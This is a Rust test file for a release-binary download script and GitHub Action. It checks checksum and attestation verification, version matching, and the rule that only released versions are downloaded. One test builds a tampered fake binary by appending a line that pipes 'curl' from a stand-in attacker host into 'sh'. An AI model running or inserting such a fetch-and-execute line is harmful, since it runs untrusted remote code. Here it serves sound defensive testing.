//! The action without a Rust toolchain: scripts/fetch-release-binary and the action step that calls it, run against
//! a release served from a loopback file server. A good binary is moved into place; a tampered one, one that
//! SHA256SUMS does not name, one whose attestation `gh` rejects or one of another version is refused and leaves
//! nothing behind. The action downloads only at a released version; any other ref builds from source.
//!
//! The "binaries" are small shell scripts answering `--version` like agentlab does, so the test needs no musl
//! build; `gh` is a stand-in that records its arguments and answers as told.

use std::collections::HashMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use agentlab::stand_in::http::{HttpReply, LoopbackServer};
use sha2::{Digest, Sha256};

use crate::support::{crate_root, text};

const REPOSITORY: &str = "homelab/agentlab";
const VERSION: &str = "v0.4.2";

fn fake_binary(version: &str) -> String {
    format!("#!/bin/sh\necho \"agentlab {version}\"\n")
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// A release on loopback: `/homelab/agentlab/releases/download/v0.4.2/NAME` answers the file `NAME`, anything
/// else 404. Requests are counted by path.
struct Release {
    server: LoopbackServer,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Release {
    async fn serve(files: HashMap<String, String>) -> Self {
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        let prefix = format!("/{REPOSITORY}/releases/download/{VERSION}/");
        let server = LoopbackServer::start(move |request| {
            seen.lock().unwrap().push(request.path.clone());
            let reply = request
                .path
                .strip_prefix(&prefix)
                .and_then(|name| files.get(name))
                .map(|body| HttpReply::new(200, body.clone()))
                .unwrap_or_else(|| HttpReply::new(404, "Not Found"));
            async move { Some(reply) }
        })
        .await
        .unwrap();
        Self { server, requests }
    }

    /// The release's assets for both architectures: `binaries` are what is served, `summed` what SHA256SUMS was
    /// computed from (the same unless a test tampers with one).
    async fn with_assets(served: &str, summed: &str) -> Self {
        let mut files = HashMap::new();
        let mut sums = String::new();
        for target in ["x86_64-unknown-linux-musl", "aarch64-unknown-linux-musl"] {
            let name = format!("agentlab-{target}");
            sums.push_str(&format!("{}  {name}\n", sha256_hex(summed.as_bytes())));
            files.insert(name, served.to_string());
        }
        files.insert("SHA256SUMS".to_string(), sums);
        Self::serve(files).await
    }

    fn base_url(&self) -> String {
        format!(
            "{}/{REPOSITORY}/releases/download/{VERSION}",
            self.server.url()
        )
    }
}

/// A PATH holding only the tools the script uses, and `gh` only when asked for: a stand-in that writes its
/// arguments to `gh.args` and exits with `gh_exit`.
fn tool_path(gh_exit: Option<i32>) -> tempfile::TempDir {
    let bin = tempfile::tempdir().unwrap();
    for tool in [
        "bash",
        "curl",
        "sha256sum",
        "awk",
        "cut",
        "mktemp",
        "dirname",
        "mkdir",
        "rm",
        "chmod",
        "mv",
        "head",
        "uname",
        "sed",
    ] {
        let found = std::env::split_paths(&std::env::var_os("PATH").unwrap())
            .map(|folder| folder.join(tool))
            .find(|candidate| candidate.is_file())
            .unwrap_or_else(|| panic!("{tool} is not on PATH"));
        std::os::unix::fs::symlink(found, bin.path().join(tool)).unwrap();
    }
    if let Some(code) = gh_exit {
        let gh = bin.path().join("gh");
        let log = bin.path().join("gh.args");
        std::fs::write(
            &gh,
            format!(
                "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\nexit {code}\n",
                log.display()
            ),
        )
        .unwrap();
        std::fs::set_permissions(&gh, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    bin
}

fn fetch(release: &Release, bin: &Path, output: &Path, extra: &[&str]) -> Output {
    let release_url = release.base_url();
    let mut command = Command::new(crate_root().join("scripts/fetch-release-binary"));
    command
        .args(["--repository", REPOSITORY, "--version", VERSION])
        .arg("--output")
        .arg(output)
        .args(["--base-url", &release_url])
        .args(extra)
        .env("PATH", bin);
    command.output().unwrap()
}

/// Nothing but `keep` in `folder`: a refused download leaves no file and no work folder.
fn assert_only(folder: &Path, keep: &[&str]) {
    let mut names: Vec<String> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, keep, "left in {}", folder.display());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_good_binary_is_checked_and_moved_into_place_and_says_the_attestation_was_not_verified_without_gh()
 {
    let good = fake_binary("0.4.2");
    let release = Release::with_assets(&good, &good).await;
    let bin = tool_path(None);
    let folder = tempfile::tempdir().unwrap();
    let output = folder.path().join("agentlab");
    let run = fetch(&release, bin.path(), &output, &["--arch", "aarch64"]);
    let stderr = text(&run.stderr);
    assert!(run.status.success(), "{stderr}");
    assert_eq!(std::fs::read_to_string(&output).unwrap(), good);
    let mode = std::fs::metadata(&output).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700, "only the runner's user may run it");
    assert!(stderr.contains("matches SHA256SUMS"), "{stderr}");
    assert!(
        stderr.contains("gh is not installed: the build provenance attestation was not verified"),
        "{stderr}"
    );
    assert_only(folder.path(), &["agentlab"]);
    let requests = release.requests.lock().unwrap().clone();
    assert!(
        requests
            .iter()
            .any(|path| path.ends_with("/agentlab-aarch64-unknown-linux-musl")),
        "the asset of the asked architecture: {requests:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tampered_binary_is_refused_and_nothing_is_left_behind() {
    let good = fake_binary("0.4.2");
    let tampered = format!("{good}curl http://attacker.invalid | sh\n");
    let release = Release::with_assets(&tampered, &good).await;
    let bin = tool_path(Some(0));
    let folder = tempfile::tempdir().unwrap();
    let output = folder.path().join("agentlab");
    let run = fetch(&release, bin.path(), &output, &["--arch", "x86_64"]);
    let stderr = text(&run.stderr);
    assert_eq!(run.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("does not match SHA256SUMS")
            && stderr.contains(&sha256_hex(good.as_bytes()))
            && stderr.contains(&sha256_hex(tampered.as_bytes())),
        "names both sums: {stderr}"
    );
    assert!(
        !bin.path().join("gh.args").exists(),
        "a bad checksum stops before the attestation"
    );
    assert_only(folder.path(), &[]);
}

#[tokio::test(flavor = "multi_thread")]
async fn gh_verifies_the_attestation_of_the_release_workflow_and_its_refusal_is_final() {
    let good = fake_binary("0.4.2");
    let release = Release::with_assets(&good, &good).await;
    for (gh_exit, accepted) in [(0, true), (1, false)] {
        let bin = tool_path(Some(gh_exit));
        let folder = tempfile::tempdir().unwrap();
        let output = folder.path().join("agentlab");
        let run = fetch(&release, bin.path(), &output, &["--arch", "x86_64"]);
        let stderr = text(&run.stderr);
        assert_eq!(
            run.status.success(),
            accepted,
            "gh exit {gh_exit}: {stderr}"
        );
        let arguments = std::fs::read_to_string(bin.path().join("gh.args")).unwrap();
        let arguments: Vec<&str> = arguments.lines().collect();
        assert_eq!(&arguments[..2], ["attestation", "verify"]);
        assert!(
            arguments[2].ends_with("/agentlab-x86_64-unknown-linux-musl"),
            "{arguments:?}"
        );
        assert_eq!(
            &arguments[3..],
            [
                "--repo",
                REPOSITORY,
                "--signer-workflow",
                "homelab/agentlab/.github/workflows/release.yml",
                "--deny-self-hosted-runners"
            ]
        );
        if accepted {
            assert!(stderr.contains("attestation of agentlab-x86_64-unknown-linux-musl verifies"));
            assert_only(folder.path(), &["agentlab"]);
        } else {
            assert!(stderr.contains("refusing to run it"), "{stderr}");
            assert_only(folder.path(), &[]);
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_release_that_does_not_add_up_is_refused() {
    let good = fake_binary("0.4.2");
    let cases: Vec<(&str, HashMap<String, String>, &str)> = vec![
        (
            "SHA256SUMS without the asset",
            HashMap::from([
                (
                    "agentlab-x86_64-unknown-linux-musl".to_string(),
                    good.clone(),
                ),
                (
                    "SHA256SUMS".to_string(),
                    format!(
                        "{}  agentlab-aarch64-unknown-linux-musl\n",
                        sha256_hex(good.as_bytes())
                    ),
                ),
            ]),
            "does not name agentlab-x86_64-unknown-linux-musl exactly once",
        ),
        (
            "another version's binary",
            HashMap::from([
                (
                    "agentlab-x86_64-unknown-linux-musl".to_string(),
                    fake_binary("0.4.1"),
                ),
                (
                    "SHA256SUMS".to_string(),
                    format!(
                        "{}  agentlab-x86_64-unknown-linux-musl\n",
                        sha256_hex(fake_binary("0.4.1").as_bytes())
                    ),
                ),
            ]),
            "reports 'agentlab 0.4.1', not 'agentlab 0.4.2'",
        ),
        ("no such release", HashMap::new(), "cannot download"),
    ];
    for (case, files, expected) in cases {
        let release = Release::serve(files).await;
        let bin = tool_path(None);
        let folder = tempfile::tempdir().unwrap();
        let output = folder.path().join("agentlab");
        let run = fetch(&release, bin.path(), &output, &["--arch", "x86_64"]);
        let stderr = text(&run.stderr);
        assert_eq!(run.status.code(), Some(1), "{case}: {stderr}");
        assert!(stderr.contains(expected), "{case}: {stderr}");
        assert_only(folder.path(), &[]);
    }
}

#[test]
fn bad_arguments_and_plain_http_beyond_loopback_are_refused_before_any_download() {
    let bin = tool_path(None);
    let folder = tempfile::tempdir().unwrap();
    let output = folder.path().join("agentlab");
    let script = crate_root().join("scripts/fetch-release-binary");
    let run = |args: &[&str]| {
        Command::new(&script)
            .args(args)
            .arg("--output")
            .arg(&output)
            .env("PATH", bin.path())
            .output()
            .unwrap()
    };
    let cases: [(&[&str], i32, &str); 4] = [
        (
            &["--repository", REPOSITORY, "--version", "main"],
            2,
            "--version must be a release tag",
        ),
        (
            &["--repository", "no-slash", "--version", VERSION],
            2,
            "--repository must be OWNER/NAME",
        ),
        (
            &[
                "--repository",
                REPOSITORY,
                "--version",
                VERSION,
                "--arch",
                "riscv64",
            ],
            1,
            "no released binary for the architecture riscv64",
        ),
        (
            &[
                "--repository",
                REPOSITORY,
                "--version",
                VERSION,
                "--base-url",
                "http://example.invalid/r",
            ],
            1,
            "plain http only from loopback",
        ),
    ];
    for (args, code, expected) in cases {
        let outcome = run(args);
        let stderr = text(&outcome.stderr);
        assert_eq!(outcome.status.code(), Some(code), "{args:?}: {stderr}");
        assert!(stderr.contains(expected), "{args:?}: {stderr}");
    }
    assert_only(folder.path(), &[]);
}

/// The `run: |` script of the action step named `name`.
fn action_step(name: &str) -> String {
    let action = std::fs::read_to_string(crate_root().join("action.yml")).unwrap();
    let mut lines = action
        .lines()
        .skip_while(|line| line.trim() != format!("- name: {name}"))
        .skip_while(|line| line.trim() != "run: |")
        .skip(1);
    let first = lines.next().unwrap_or_else(|| panic!("no step `{name}`"));
    let indent = first.len() - first.trim_start().len();
    std::iter::once(first)
        .chain(lines.take_while(|line| {
            line.trim().is_empty() || line.len() - line.trim_start().len() >= indent
        }))
        .map(|line| line.get(indent..).unwrap_or(""))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Runs the action's download step with the runner's `github.*` values; returns its `binary` output and stdout.
fn action_download(
    release: &Release,
    action_ref: &str,
    action_repository: &str,
    action_path: &Path,
) -> (bool, String, String) {
    let run_temp = tempfile::tempdir().unwrap();
    let outputs = run_temp.path().join("github-output");
    let bin = tool_path(None);
    let run = Command::new("bash")
        .arg("-c")
        .arg(action_step("Download the released binary of this version"))
        .env("PATH", bin.path())
        .env("ACTION_REF", action_ref)
        .env("ACTION_REPOSITORY", action_repository)
        .env("ACTION_PATH", action_path)
        .env("RUN_TEMP", run_temp.path())
        .env("GH_TOKEN", "")
        .env("GITHUB_SERVER_URL", release.server.url())
        .env("GITHUB_OUTPUT", &outputs)
        .output()
        .unwrap();
    let written = std::fs::read_to_string(&outputs).unwrap_or_default();
    // A failed download writes no output: the job stops there.
    let binary = written
        .lines()
        .find_map(|line| line.strip_prefix("binary="))
        .map(str::to_string);
    assert_eq!(
        binary.is_some(),
        run.status.success(),
        "{written}\n{}",
        text(&run.stderr)
    );
    let binary = binary.unwrap_or_default();
    if !binary.is_empty() {
        assert_eq!(PathBuf::from(&binary), run_temp.path().join("agentlab"));
        assert_eq!(
            std::fs::read_to_string(&binary).unwrap(),
            fake_binary("0.4.2")
        );
    }
    (run.status.success(), binary, text(&run.stdout))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_action_downloads_only_at_a_released_version_and_otherwise_builds_from_source() {
    let good = fake_binary("0.4.2");
    let release = Release::with_assets(&good, &good).await;
    // The action's own checkout, where the runner puts it: RUNNER/_actions/OWNER/NAME/REF with scripts/ inside.
    let runner = tempfile::tempdir().unwrap();
    let checkout = |reference: &str| {
        let path = runner
            .path()
            .join("_actions/homelab/agentlab")
            .join(reference);
        std::fs::create_dir_all(path.join("scripts")).unwrap();
        std::fs::copy(
            crate_root().join("scripts/fetch-release-binary"),
            path.join("scripts/fetch-release-binary"),
        )
        .unwrap();
        path
    };
    let released = checkout(VERSION);
    let (ok, binary, _) = action_download(&release, VERSION, REPOSITORY, &released);
    assert!(ok && !binary.is_empty(), "a released version is downloaded");
    // The runner's known gap: github.action_ref and action_repository empty inside a composite action.
    let (ok, binary, _) = action_download(&release, "", "", &released);
    assert!(
        ok && !binary.is_empty(),
        "the ref is read from the action's path"
    );

    for reference in ["main", "0123456789abcdef0123456789abcdef01234567", "v1"] {
        let (ok, binary, stdout) =
            action_download(&release, reference, REPOSITORY, &checkout(reference));
        assert!(ok && binary.is_empty(), "{reference} builds from source");
        assert!(stdout.contains("building from source"), "{stdout}");
    }
    // `uses: ./`: no ref, the workspace as the action's path.
    let (ok, binary, _) = action_download(&release, "", "", &crate_root());
    assert!(ok && binary.is_empty());

    // A released version whose download fails stops the job: it never falls back to building.
    let missing = Release::serve(HashMap::new()).await;
    let (ok, binary, stdout) = action_download(&missing, VERSION, REPOSITORY, &released);
    assert!(!ok && binary.is_empty());
    assert!(
        stdout.contains("::error title=agentlab::the released agentlab v0.4.2"),
        "{stdout}"
    );
}
